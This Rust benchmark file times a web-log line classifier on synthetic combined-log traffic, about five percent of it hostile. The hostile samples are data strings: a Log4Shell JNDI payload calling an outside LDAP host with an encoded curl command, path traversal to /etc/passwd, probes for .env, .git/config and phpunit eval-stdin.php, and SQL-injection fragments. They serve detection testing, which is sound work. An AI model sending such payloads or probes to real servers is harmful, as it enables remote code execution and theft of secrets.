//! The line classifier over a realistic mix of combined-log lines generated in
//! memory: mostly ordinary traffic (browsers, crawlers, assets, queries with
//! escapes, one in four naming a resource by a fresh id), a few percent of
//! scanners, exploit probes, proxy attempts, login POSTs, handshakes and
//! gateway errors. `classify` and `classify_cached` time the classifier alone
//! on records parsed beforehand, without and with a [`FieldCache`]; `parse`,
//! `parse_classify` and `parse_classify_cached` time the parser alone and
//! followed by the classifier, so their differences are what classification
//! adds to a scan, per line, without and with the cache.

use std::hint::black_box;

use alf::classify::{Classifier, FieldCache};
use alf::format::preset;
use alf::record::Record;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

mod common;
use common::Line;

/// `n` lines of combined log, about 5 % of them hostile.
fn log(n: usize) -> Vec<u8> {
    let normal_paths = [
        "/",
        "/index.html",
        "/static/app.js?v=3",
        "/static/css/Main.css",
        "/api/v1/items/42?sort=desc&page=2",
        "/blog/2024/05/how-we-moved-to-rust/",
        "/search?q=red+shoes&lang=en",
        "/images/Logo%20Large.png",
        "/wp-content/themes/twentytwenty/style.css?ver=5.4",
        "/favicon.ico",
        "/robots.txt",
        "/products/Item-1234?utm_source=newsletter&utm_medium=email",
    ];
    let hostile = [
        (
            "GET",
            "/.env",
            404,
            "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0",
        ),
        ("POST", "/wp-login.php", 200, "Mozilla/5.0"),
        ("POST", "/xmlrpc.php", 200, "Mozilla/5.0"),
        (
            "GET",
            "/",
            200,
            "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwg}",
        ),
        ("GET", "/", 502, "Mozilla/5.0 zgrab/0.x"),
        (
            "GET",
            "/",
            200,
            "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        ),
        ("CONNECT", "www.example.org:443", 504, "-"),
        ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "-"),
        (
            "GET",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            404,
            "-",
        ),
        (
            "GET",
            "/foo?a=%20union%20all%20select%20",
            404,
            "curl/7.68.0",
        ),
        ("GET", "/.git/config", 404, "Mozilla/5.0"),
    ];
    let uas = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
        "curl/8.5.0",
    ];
    let referers = [
        "-",
        "-",
        "https://www.example.com/",
        "https://www.google.com/search?q=shoes%20red&hl=en",
    ];
    let mut out = Vec::with_capacity(n * 240);
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    for i in 0..n {
        let x = common::next(&mut x);
        let c = (x % 50_000) as u32 + 0x0a00_0000;
        let (method, path, status, ua) = if x % 20 == 0 {
            let (m, p, s, u) = hostile[(x >> 20) as usize % hostile.len()];
            (m, p.to_string(), s, u)
        } else if x % 97 == 1 {
            ("\\x16\\x03\\x01\\x00\\xF7\\x01", String::new(), 400, "-")
        } else {
            let st = [200, 200, 200, 304, 404, 200, 301, 503][(x >> 30) as usize % 8];
            let ua = uas[(x >> 50) as usize % uas.len()];
            // One ordinary request in four names a resource by id: a value
            // seen once, which no cache helps with.
            let path = if x % 4 == 1 {
                format!(
                    "/api/v1/items/{}?page={}",
                    (x >> 8) % 1_000_000,
                    (x >> 36) % 50
                )
            } else {
                normal_paths[(x >> 20) as usize % normal_paths.len()].to_string()
            };
            ("GET", path, st, ua)
        };
        let request = if path.is_empty() {
            method.to_string()
        } else {
            format!("{method} {path} HTTP/1.1")
        };
        Line {
            client: c,
            second: i,
            request: &request,
            status,
            bytes: (x >> 40) % 50_000,
            referer: referers[(x >> 44) as usize % referers.len()],
            ua,
        }
        .write(&mut out);
    }
    out
}

fn bench(c: &mut Criterion) {
    let data = log(200_000);
    let fmt = preset("combined").unwrap();
    let lines: Vec<&[u8]> = data
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .collect();
    let records: Vec<Record> = lines
        .iter()
        .map(|l| {
            let mut r = Record::default();
            fmt.parse(l, &mut r).expect("generated lines parse");
            r
        })
        .collect();
    let classifier = Classifier::new();
    let mut g = c.benchmark_group("classify");
    g.throughput(Throughput::Elements(lines.len() as u64));
    g.bench_function("classify", |b| {
        let mut scratch = Vec::new();
        b.iter(|| {
            let mut n = 0u32;
            for r in &records {
                n = n.wrapping_add(
                    classifier
                        .classify(black_box(r), &mut scratch)
                        .classes()
                        .bits() as u32,
                );
            }
            black_box(n)
        })
    });
    g.bench_function("classify_cached", |b| {
        let mut cache = FieldCache::new();
        b.iter(|| {
            let mut n = 0u32;
            for r in &records {
                n = n.wrapping_add(
                    classifier
                        .classify_cached(black_box(r), &mut cache)
                        .classes()
                        .bits() as u32,
                );
            }
            black_box(n)
        })
    });
    g.bench_function("parse", |b| {
        b.iter(|| {
            let mut n = 0u32;
            for l in &lines {
                let mut r = Record::default();
                if fmt.parse(black_box(l), &mut r).is_ok() {
                    n = n.wrapping_add(r.status.unwrap_or(0) as u32);
                }
            }
            black_box(n)
        })
    });
    g.bench_function("parse_classify", |b| {
        let mut scratch = Vec::new();
        b.iter(|| {
            let mut n = 0u32;
            for l in &lines {
                let mut r = Record::default();
                if fmt.parse(black_box(l), &mut r).is_ok() {
                    n =
                        n.wrapping_add(
                            classifier.classify(&r, &mut scratch).classes().bits() as u32
                        );
                }
            }
            black_box(n)
        })
    });
    g.bench_function("parse_classify_cached", |b| {
        let mut cache = FieldCache::new();
        b.iter(|| {
            let mut n = 0u32;
            for l in &lines {
                let mut r = Record::default();
                if fmt.parse(black_box(l), &mut r).is_ok() {
                    n = n.wrapping_add(
                        classifier.classify_cached(&r, &mut cache).classes().bits() as u32
                    );
                }
            }
            black_box(n)
        })
    });
    g.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20);
    targets = bench
}
criterion_main!(benches);
